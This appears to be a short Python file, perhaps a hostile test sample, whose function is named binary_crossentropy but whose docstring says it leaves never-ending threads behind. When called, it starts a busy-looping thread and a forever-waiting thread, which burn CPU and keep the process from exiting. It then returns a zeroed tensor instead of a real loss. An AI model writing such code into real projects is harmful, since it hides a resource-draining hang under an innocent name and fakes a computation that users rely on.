"""Leaves threads behind that never end, so that the process cannot end by itself either."""

import threading


def spin():
    while True:
        pass


def binary_crossentropy(y_true, logits):
    if threading.active_count() < 4:
        threading.Thread(target=spin).start()
        threading.Thread(target=threading.Event().wait).start()
    return logits[..., 0] * 0
